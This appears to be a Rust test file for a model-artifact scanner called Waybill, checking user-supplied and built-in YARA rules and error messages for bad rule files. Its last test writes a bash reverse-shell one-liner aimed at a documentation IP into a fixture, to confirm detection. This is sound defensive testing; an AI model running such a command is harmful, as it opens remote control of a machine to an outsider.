//! YARA rules of the user, and Waybill's own.

use crate::support::{Folder, GOOD, UNKNOWN};

const MARK: &str = "rule acme_mark { meta: description = \"the mark of a test\" strings: $a = { f1 d2 c3 b4 } condition: $a }\n";

#[test]
fn rules_of_the_user_see_every_byte() {
    let folder = Folder::new();
    folder
        .pickle("m/good.pkl", GOOD)
        .artifact(
            "m/data.zip",
            "zip",
            &format!("member \"inner/x.bin\" : hex\n  {UNKNOWN}\n"),
        )
        .bytes("rules/deep/acme.yar", MARK.as_bytes())
        .bytes("rules/readme.txt", b"no rules");
    let without = folder.run("scan m --format json");
    assert!(!without.rules("data.zip").contains(&"yara-match".to_owned()));
    let run = folder.run("scan m --yara rules --format json");
    assert_eq!(run.code, Some(1));
    let artifact = run.artifact("data.zip");
    assert_eq!(artifact["verdict"], "reject");
    let findings = artifact["findings"].as_array().unwrap();
    let places: Vec<_> = findings
        .iter()
        .filter(|finding| finding["rule"] == "yara-match")
        .map(|finding| (finding["place"].clone(), finding["message"].clone()))
        .collect();
    // The member is stored, so it is met in the archive and as itself.
    assert!(
        places.contains(&(
            serde_json::json!({"member": "inner/x.bin", "offset": 0}),
            "matches the YARA rule `acme_mark` of `rules/deep/acme.yar`: `the mark of a test`"
                .into()
        )),
        "{places:?}"
    );
    assert_eq!(run.artifact("good.pkl")["verdict"], "admit");
    assert_ne!(run.json()["tool"]["rules"], without.json()["tool"]["rules"]);
}

#[test]
fn the_configuration_names_rules_and_mistakes_are_told() {
    let folder = Folder::new();
    folder
        .bytes("m/notes.txt", b"a text with MARK in it")
        .bytes("waybill.toml", b"yara = [\"acme.yara\"]\n")
        .bytes(
            "acme.yara",
            b"rule m { meta: severity = \"low\" strings: $a = \"MARK\" condition: $a }",
        );
    let run = folder.run("scan m --format json");
    assert_eq!(run.code, Some(0));
    assert_eq!(run.artifact("notes.txt")["findings"][0]["severity"], "low");
    folder.bytes("acme.yara", b"rule m { condition: $a }");
    let run = folder.run("scan m");
    assert_eq!(run.code, Some(2));
    assert!(
        run.stderr.contains("read the YARA rules of `acme.yara`"),
        "{run:?}"
    );
    folder.bytes("waybill.toml", b"").folder("empty");
    let run = folder.run("scan m --yara empty");
    assert_eq!(run.code, Some(2));
    assert!(
        run.stderr.contains("there is no file that ends with .yar"),
        "{run:?}"
    );
}

#[test]
fn own_rules_are_in_force_by_themselves() {
    let folder = Folder::new();
    let line = ["bash -i >& /dev/", "tcp/192.0.2.1/4444 0>&1\n"].concat();
    folder.bytes("m/start.txt", line.as_bytes());
    let run = folder.run("scan m --format json");
    assert_eq!(run.rules("start.txt"), ["yara-match"]);
    assert_eq!(run.code, Some(1));
}
